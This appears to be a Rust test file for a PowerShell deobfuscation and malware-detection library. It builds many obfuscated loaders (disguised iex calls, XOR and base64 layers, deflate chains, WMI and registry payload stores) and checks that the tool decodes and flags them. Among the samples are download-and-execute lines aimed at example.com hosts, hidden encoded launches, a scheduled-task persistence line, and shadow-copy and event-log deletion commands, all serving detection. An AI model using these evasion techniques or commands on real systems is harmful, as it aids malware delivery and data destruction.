//! The tricks of PowerShell malware, each opened to plain text. All texts are made here from the described technique.

#![allow(clippy::unwrap_used, clippy::print_stdout, reason = "helpers of tests")]

use std::io::Write as _;

use base64::Engine as _;
use deminer_deobfuscate::{Decoded, Language, Limits, ScriptVerdict, decode};

fn powershell(text: &str) -> Decoded {
    decode(text, Some(Language::PowerShell), &Limits::default())
}

fn line(text: &str) -> Decoded {
    decode(text, Some(Language::CommandLine), &Limits::default())
}

#[track_caller]
fn shows(decoded: &Decoded, text: &str) {
    assert!(
        decoded.layers.iter().any(|layer| layer.text.contains(text)),
        "{text:?} is in none of {:#?} ({:?})",
        decoded.layers,
        decoded.problems
    );
}

#[track_caller]
fn runs(script: &str, text: &str) {
    let decoded = powershell(script);
    assert!(
        decoded.layers.iter().skip(1).any(|layer| layer.text == text),
        "{text:?} is none of {:#?} ({:?})",
        decoded.layers,
        decoded.problems
    );
}

fn base64(bytes: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

fn wide(text: &str) -> String {
    base64(&text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>())
}

fn deflated(text: &str) -> Vec<u8> {
    let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(text.as_bytes()).unwrap();
    encoder.finish().unwrap()
}

fn hex(bytes: &[u8], separator: &str) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect::<Vec<_>>().join(separator)
}

const PLAIN: &str = "Write-Host 'opened to the last layer'";

#[test]
fn every_way_to_hide_iex() {
    for iex in [
        "iex",
        "I`EX",
        "i`N`V`oke-ex`pression",
        "&('i'+'ex')",
        ".('{1}{0}'-f'ex','i')",
        "&($PSHome[4]+$PSHome[30]+'x')",
        "&( $pshOme[21]+$PsHOME[34]+'X')",
        "& ($ShellId[1]+$ShellId[13]+'x')",
        "&($VerbosePreference.ToString()[1,3]+'X'-join'')",
        "&($env:ComSpec[4,15,25]-join'')",
        "&($env:ComSpec[4,24,25]-Join'')",
        "&((variable '*mdr*').Name[3,11,2]-join'')",
        "&((gv '*mdr*').NaMe[3,11,2]-jOIn'')",
        "&(gcm i*-e?p*)",
        "&([char]105+[char]101+[char]120)",
        "&([string]::Join('',('i','e','x')))",
        "&('xei'[-1..-3]-join'')",
        "&('iqqx'.replace('qq','e'))",
        "$a='ie'; $b='x'; &($a+$b)",
        "sal q iex; q",
        "Set-Alias -Name qq -Value iex; qq",
        "Microsoft.PowerShell.Utility\\Invoke-Expression",
    ] {
        runs(&format!("{iex} \"echo hidden-{{}}\""), "echo hidden-{}");
    }
    for piped in [
        "'echo 7' | iex",
        "'echo 7'|&('ie'+'x')",
        "'echo 7' |. ($env:comspec[4,24,25]-join'')",
        "'echo 7' | % { iex $_ }",
    ] {
        runs(piped, "echo 7");
    }
    for other in [
        "[scriptblock]::Create('echo 7').Invoke()",
        "&([scriptblock]::Create('echo 7'))",
        "$ExecutionContext.InvokeCommand.InvokeScript('echo 7')",
        "Invoke-Command -ScriptBlock ([ScriptBlock]::Create('echo 7'))",
        "'echo 7' | powershell -",
    ] {
        runs(other, "echo 7");
    }
}

#[test]
fn numbers_become_text() {
    let codes = |radix: fn(u8) -> String| PLAIN.bytes().map(radix).collect::<Vec<_>>().join(",");
    runs(&format!("iex $(({})|%{{[char]$_}}|%{{$s+=$_}}; $s)", codes(|b| b.to_string())), PLAIN);
    runs(&format!("iex (-join(({})|%{{[char]$_}}))", codes(|b| b.to_string())), PLAIN);
    runs(&format!("iex ([char[]]({})-join'')", codes(|b| b.to_string())), PLAIN);
    runs(&format!("iex ([string]::Join('',(({})|%{{([char]([int]$_))}})))", codes(|b| b.to_string())), PLAIN);
    runs(
        &format!(
            "iex (-join('{}'.Split(',')|%{{[char][convert]::ToInt16($_,8)}}))",
            codes(|b| format!("{b:o}"))
        ),
        PLAIN,
    );
    runs(
        &format!(
            "iex (('{}'-split','|ForEach-Object{{[char]([Convert]::ToInt32($_.ToString(),16))}})-join'')",
            codes(|b| format!("{b:x}"))
        ),
        PLAIN,
    );
    runs(
        &format!(
            "iex (('{}'-split','|%{{[char][Convert]::ToByte($_,2)}})-join'')",
            codes(|b| format!("{b:b}"))
        ),
        PLAIN,
    );
    runs(
        &format!(
            "( '{}'.split( 'Z' ) | % {{ ( [char] ( $_ -bxor 0x35 ) ) }} | fOReaCh {{$r+=$_}}) ;$r|iex",
            PLAIN.bytes().map(|b| (b ^ 0x35).to_string()).collect::<Vec<_>>().join("Z")
        ),
        PLAIN,
    );
    runs(&format!("$ofs='';iex ([string](({})|%{{[char]$_}}))", codes(|b| b.to_string())), PLAIN);
}

#[test]
fn xor_loops() {
    let bytes: Vec<u8> = PLAIN.bytes().map(|b| b ^ 0x5a).collect();
    let encoded = base64(&bytes);
    runs(
        &format!(
            "$b=[Convert]::FromBase64String('{encoded}');for($i=0;$i -lt $b.Length;$i++){{$b[$i]=$b[$i] -bxor 0x5A}};iex ([Text.Encoding]::ASCII.GetString($b))"
        ),
        PLAIN,
    );
    let key = b"k3y";
    let keyed: Vec<u8> = PLAIN.bytes().enumerate().map(|(i, b)| b ^ key[i % 3]).collect();
    runs(
        &format!(
            "$k=[Text.Encoding]::UTF8.GetBytes('k3y');$d=[Convert]::FromBase64String('{}');$i=0;$o='';foreach($c in $d){{$o+=[char]($c -bxor $k[$i%$k.Length]);$i++}};IEX $o",
            base64(&keyed)
        ),
        PLAIN,
    );
    runs(
        &format!(
            "function Dec($t){{$r='';foreach($c in $t.ToCharArray()){{$r+=[char]([int]$c -bxor 1)}};return $r}}; iex (Dec '{}')",
            PLAIN.bytes().map(|b| char::from(b ^ 1)).collect::<String>().replace('\'', "''")
        ),
        PLAIN,
    );
}

#[test]
fn strings_turned_and_shuffled() {
    let reversed: String = PLAIN.chars().rev().collect::<String>().replace('\'', "''");
    runs(&format!("$a='{reversed}';iex ($a[-1..-($a.Length)]-join'')"), PLAIN);
    runs(&format!("$a='{reversed}';iex ($a[($a.Length-1)..0]-join'')"), PLAIN);
    runs(&format!("$a='{reversed}'.ToCharArray();[array]::Reverse($a);iex (-join $a)"), PLAIN);
    runs(&format!("iex (-join ([regex]::Matches('{reversed}','.','RightToLeft')|%{{$_.value}}))"), PLAIN);
    runs("iex ('echo YV0opened YV0'.replace('YV0',[string][char]39))", "echo 'opened '");
    runs("iex ('ec~ho~ 1' -replace '~','')", "echo 1");
    runs("iex ('ecXho 1' -creplace ([char]88),'')", "echo 1");
    runs("iex ('{2}{0}{1}'-f'ho',' 1','ec')", "echo 1");
    // Blocks of a fixed length in reverse order.
    let blocks: Vec<String> =
        PLAIN.as_bytes().chunks(10).map(|c| String::from_utf8_lossy(c).into_owned()).collect();
    let last = blocks.last().unwrap().len();
    let shuffled: String = blocks.iter().rev().cloned().collect::<String>().replace('\'', "''");
    runs(
        &format!(
            "$p='{shuffled}';$r='';for($i=$p.Length-10;$i -ge {last};$i-=10){{$r+=$p.Substring($i,10)}};$r+=$p.Substring(0,{last});iex $r"
        ),
        PLAIN,
    );
}

/// A chain as `LemonDuck`'s tasks carry it: hexadecimal pairs, deflate, a reader, `iex` split by a back-tick.
#[test]
fn hexadecimal_deflate_chain() {
    let inner = "$url='http://t.example.com';IEX (New-Object Net.WebClient).DownloadString($url+'/a.jsp?x')";
    let digits = hex(&deflated(inner), "_");
    let script = format!(
        "I`EX $(New-Object IO.StreamReader ($(New-Object IO.Compression.DeflateStream ($(New-Object IO.MemoryStream (,$('{digits}'-split'(..)'|?{{$_ -ne '_'}}|?{{$_}}|%{{[convert]::ToUInt32($_,16)}}))), [IO.Compression.CompressionMode]::Decompress)), [Text.Encoding]::ASCII)).ReadToEnd();"
    );
    let digits = hex(&deflated(inner), "");
    let plain = script.replace(&hex(&deflated(inner), "_"), &digits).replace("?{$_ -ne '_'}|", "");
    let decoded = powershell(&plain);
    let opened = decoded.layers.iter().find(|layer| layer.how == "deflate").expect("a deflate layer");
    assert_eq!(opened.text, inner);
    assert!(decoded.traits.iter().any(|hit| hit.id == "compressed-payload"));
    assert!(decoded.traits.iter().any(|hit| hit.id == "download-execute"));
    assert_eq!(decoded.verdict, ScriptVerdict::Malicious);
    assert!(
        decoded.indicators.iter().any(|i| i.value == "http://t.example.com/a.jsp?x"),
        "{:?}",
        decoded.indicators
    );
}

#[test]
fn base64_deflate_and_gzip_in_their_usual_dress() {
    let stream = base64(&deflated(PLAIN));
    runs(
        &format!(
            "Invoke-Expression $(New-Object IO.StreamReader ($(New-Object IO.Compression.DeflateStream ($(New-Object IO.MemoryStream (,$([Convert]::FromBase64String('{stream}')))), [IO.Compression.CompressionMode]::Decompress)), [Text.Encoding]::ASCII)).ReadToEnd();"
        ),
        PLAIN,
    );
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(PLAIN.as_bytes()).unwrap();
    let gz = base64(&gz.finish().unwrap());
    runs(
        &format!(
            "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(\"{gz}\"));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();"
        ),
        PLAIN,
    );
    runs(
        &format!(
            "$ms=[IO.MemoryStream][Convert]::FromBase64String('{stream}');$d=[System.IO.Compression.DeflateStream]::new($ms,[IO.Compression.CompressionMode]::Decompress);iex ([IO.StreamReader]::new($d)).ReadToEnd()"
        ),
        PLAIN,
    );
    // Copied by a loop of reads, which is not followed: what came out of the stream is shown all the same.
    runs(
        &format!(
            "$i=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{gz}'));$g=New-Object IO.Compression.GzipStream($i,[IO.Compression.CompressionMode]::Decompress);$o=New-Object IO.MemoryStream;$buf=New-Object byte[](1024);while(($n=$g.Read($buf,0,1024)) -gt 0){{$o.Write($buf,0,$n)}};iex ([Text.Encoding]::UTF8.GetString($o.ToArray()))"
        ),
        PLAIN,
    );
}

#[test]
fn base64_layers_within_layers() {
    let inner =
        format!("iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{}')))", wide(PLAIN));
    let outer = line(&format!("cmd /c powershell.exe -NoP -NonI -W Hidden -E {}", wide(&inner)));
    let hows: Vec<&str> = outer.layers.iter().map(|layer| layer.how).collect();
    assert_eq!(hows, ["input", "cmd", "base64-utf16", "base64-utf16"]);
    assert_eq!(outer.layers[3].text, PLAIN);
    assert_eq!(outer.layers[3].from, 2);
}

#[test]
fn an_encoded_command_in_plain_ascii() {
    let decoded = line(&format!("powershell -enc {}", base64(PLAIN.as_bytes())));
    assert_eq!((decoded.layers[1].how, decoded.layers[1].text.as_str()), ("base64-ascii", PLAIN));
}

/// A consumer that reads its payload back out of a WMI class, as `WannaMine`'s does. The payload itself is not in the
/// text, so the trait must tell.
#[test]
fn wmi_class_store_read_back() {
    let script = "$mon = ([WmiClass] 'root\\default:Example_Updater').Properties['mon'].Value;$funs = ([WmiClass] 'root\\default:Example_Updater').Properties['funs'].Value ;iex ([System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String($funs)));Invoke-Command -ScriptBlock $RemoteScriptBlock -ArgumentList @($mon, $mon, 'Void', 0, '', '')";
    let decoded = line(&format!("powershell.exe -NoP -NonI -W Hidden \"{script}\""));
    assert_eq!(decoded.layers[1].text, script);
    assert_eq!(decoded.verdict, ScriptVerdict::Malicious);
    for id in ["wmi-class-store-read", "wmi-class-store-run", "hidden-window", "invoke-expression-of-data"] {
        assert!(decoded.traits.iter().any(|hit| hit.id == id), "{id} is missing: {:?}", decoded.traits);
    }
    assert!(decoded.indicators.iter().any(|i| i.value == "root\\default:Example_Updater"));
}

#[test]
fn registry_payload() {
    let decoded = powershell(
        "$v=(Get-ItemProperty 'HKLM:\\SOFTWARE\\Classes\\CLSID\\{00000000-1111-2222-3333-444444444444}').'(Default)';iex ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String($v)))",
    );
    assert!(decoded.traits.iter().any(|hit| hit.id == "registry-payload-run"), "{:?}", decoded.traits);
}

#[test]
fn member_and_type_names_put_together() {
    let decoded = powershell(
        "(Ne`w-Obj`ect ('Net.We'+'bClient')).('Down'+'loadString').Invoke(('ht'+'tp://')+'a.example.com/x'); ([type]('{1}{0}'-f'vert','Con'))::('FromBase64'+'String')('ZWNobyBvbmUgdHdvIHRocmVl')",
    );
    shows(&decoded, "New-Object");
    shows(&decoded, "DownloadString.Invoke");
    shows(&decoded, "http://a.example.com/x");
    shows(&decoded, "echo one two three");
    assert!(decoded.traits.iter().any(|hit| hit.id == "obfuscated"));
}

#[test]
fn variables_are_followed_and_shown() {
    let decoded = powershell("$h='exam'+'ple.com';$u=\"http://$h/p.ps1\";$w.DownloadString($u)");
    shows(&decoded, "DownloadString('http://example.com/p.ps1')");
    let env = powershell("${a`b}='x'; Set-Variable -Name q -Value 'echo 12'; iex $q");
    shows(&env, "echo 12");
}

#[test]
fn a_started_powershell_is_opened_wherever_it_stands() {
    let encoded = wide(PLAIN);
    for script in [
        format!("Start-Process powershell -ArgumentList '-nop -w hidden -enc {encoded}'"),
        format!("$e='{encoded}'; powershell -nop -e $e"),
        format!("$e='{encoded}'; Start-Process -WindowStyle Hidden powershell.exe \"-e $e\""),
        format!("schtasks /create /tn x /tr \"powershell -ep bypass -e {encoded}\""),
        format!("cmd.exe /c \"powershell -enc {encoded}\""),
    ] {
        shows(&powershell(&script), PLAIN);
    }
    shows(&line(&format!("\"C:\\\\Windows\\\\powershell.exe\" -window hidden -enc {encoded}")), PLAIN);
}

#[test]
fn broken_text_is_no_trouble() {
    for text in [
        "$(((((",
        "'",
        "\"",
        "@'",
        "@\"\r\n",
        "iex (",
        "[",
        "[a",
        "{{{{",
        "}}}}",
        "$",
        "${",
        "`",
        "-join",
        "$a[",
        "$a.",
        "foreach(",
        "for(;;){",
        "function",
        "if(){}else",
        "try{",
        "<#",
        "&",
        ".",
        "|",
        "a|",
        "$a=",
        "@(",
        "@{",
        "1..",
        "0x",
        "\u{2018}a\u{2019}",
        "\u{feff}",
        "iex ''",
        "[char]",
        "[char]99999999999",
        "'a'*99999999999",
        "1..99999999999",
        "$x[1..3]",
        "%{",
        "$a::b",
        "::",
        "do{}while",
        "switch($a){1{}}",
        "[convert]::FromBase64String('!')",
        "'a'-f",
        "'{0}'-f",
        "'{9}'-f1",
        "-split",
        "'x'-split'('",
        "'x'-replace'('",
        "return",
        "param(",
        "param($a=",
    ] {
        powershell(text);
    }
}

#[test]
fn loops_that_never_end_are_left() {
    let started = std::time::Instant::now();
    for text in [
        "while($true){$a+='x'}",
        "for(;;){$a+='x'}",
        "$i=0;while($i -ge 0){$i++}",
        "do{$a+='xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'}while(1)",
        "$a='x';while($a.Length -gt 0){$a+=$a}",
        "function f{f;f}; f",
        "$a=1..1000000;$a|%{$a}|%{$a}",
        "filter f{$_|f};1|f",
    ] {
        let decoded = powershell(text);
        assert!(!decoded.layers.is_empty());
    }
    assert!(started.elapsed().as_secs() < 20, "{:?}", started.elapsed());
}

#[test]
fn replacing_all_that_was_found_or_in_a_part_only() {
    let opened = |script: &str| {
        let decoded = deminer_deobfuscate::decode(
            script,
            Some(deminer_deobfuscate::Language::PowerShell),
            &deminer_deobfuscate::Limits::default(),
        );
        decoded.layers.iter().skip(1).map(|layer| layer.text.clone()).collect::<Vec<_>>()
    };
    let layers = opened("iex ('write '+('abcb' -replace 'b','[$&]'))");
    assert!(layers.iter().any(|text| text == "write a[b]c[b]"), "{layers:?}");
    let layers = opened("iex ('write '+([Text.StringBuilder]'abcabc').Replace('a','X',0,3).ToString())");
    assert!(layers.iter().all(|text| !text.contains("XbcXbc")), "{layers:?}");
}

#[test]
fn rotating_shadow_copies_and_archived_logs_are_no_destruction() {
    for (text, ids) in [
        ("vssadmin delete shadows /for=D: /oldest /quiet\r\n", &[][..]),
        (
            "vssadmin delete shadows /for=D: /oldest\r\nvssadmin delete shadows /all /quiet\r\n",
            &["shadow-copy-delete"],
        ),
        ("wevtutil epl Security C:\\Logs\\s.evtx\r\nwevtutil cl Security\r\n", &[]),
        ("wevtutil epl Security C:\\Logs\\s.evtx\r\nwevtutil cl System\r\n", &["event-log-clear"]),
        ("wevtutil cl Security\r\n", &["event-log-clear"]),
    ] {
        let decoded = deminer_deobfuscate::decode(
            text,
            Some(deminer_deobfuscate::Language::Batch),
            &deminer_deobfuscate::Limits::default(),
        );
        let seen: Vec<_> = decoded.traits.iter().map(|hit| hit.id).collect();
        assert_eq!(seen, ids, "{text}");
    }
}
